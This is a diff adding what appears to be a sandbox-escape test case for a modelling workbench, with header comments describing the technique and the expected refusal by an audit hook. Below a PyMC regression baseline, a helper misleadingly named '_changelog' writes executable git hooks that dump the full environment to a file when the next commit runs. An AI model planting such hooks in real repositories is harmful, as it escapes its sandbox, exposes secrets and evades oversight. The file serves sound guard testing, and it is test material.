@@ -1,0 +1,45 @@
+# Technique: plant git hooks (post-commit, reference-transaction) in the session's .git
+# with Python's open() and os.chmod; the workbench's next commit would run them outside
+# the sandbox, with the full environment.
+# Problem: ihdp
+# Expected: guard file-access, process-access (os); sandbox: refused (audit hook) and the
+# session is not visible; the model compiles (ok), .git is unchanged and no hook runs
+# at the next commit.
+"""Baseline; keeps a changelog of its runs."""
+
+import os
+
+import numpy as np
+import pymc as pm
+
+
+def _changelog():
+    here = os.getcwd()
+    for root in (os.path.dirname(here), os.path.dirname(os.path.dirname(here))):
+        hooks = os.path.join(root, ".git", "hooks")
+        if not os.path.isdir(hooks):
+            continue
+        for name in ("post-commit", "reference-transaction"):
+            path = os.path.join(hooks, name)
+            try:
+                with open(path, "w") as fh:
+                    fh.write(f'#!/bin/sh\nenv > "{root}/HOOK_RAN-{name}"\n')
+                os.chmod(path, 0o755)
+            except OSError:
+                continue
+
+
+def build_model(data):
+    _changelog()
+    X = data.X.to_numpy()
+    y_loc, y_scale = data.y.mean(), data.y.std()
+    coords = {"obs": np.arange(data.n), "control": list(data.X.columns)}
+    with pm.Model(coords=coords) as model:
+        t = pm.Data("t", data.t, dims="obs")
+        alpha = pm.Normal("alpha", y_loc, 2 * y_scale)
+        beta_t = pm.Normal("beta_t", 0, y_scale)
+        beta_x = pm.Normal("beta_x", 0, y_scale, dims="control")
+        mu = pm.Deterministic("mu", alpha + beta_t * t + pm.math.dot(X, beta_x), dims="obs")
+        sigma = pm.HalfNormal("sigma", y_scale)
+        pm.Normal("y", mu=mu, sigma=sigma, observed=data.y, dims="obs")
+    return model
